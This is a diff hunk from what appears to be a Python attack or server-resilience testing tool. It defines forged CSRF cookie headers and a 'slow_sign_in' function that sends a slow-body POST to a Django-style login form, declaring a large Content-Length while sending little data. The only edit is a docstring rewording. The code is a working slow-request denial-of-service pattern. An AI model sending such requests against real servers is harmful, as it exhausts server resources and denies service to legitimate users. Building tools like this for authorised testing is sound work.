@@ -67,7 +67,7 @@ FORGED_HEADERS = {"Cookie": f"csrftoken={'a' * 32}; __Host-csrftoken={'a' * 32}"
 
 
 def slow_sign_in(target: Target) -> Attack:
-    """A slow body for the sign-in form, which the server reads from any client whose CSRF cookie looks right."""
+    """A slow body for the sign-in form, which the server reads from any client with a plausible CSRF cookie."""
     body = b"csrfmiddlewaretoken=" + b"a" * 32 + b"&username="
     return Attack(target.request("POST", "/accounts/login/", FORGED_HEADERS | {"Content-Length": "9000"}, body), b"x")
 
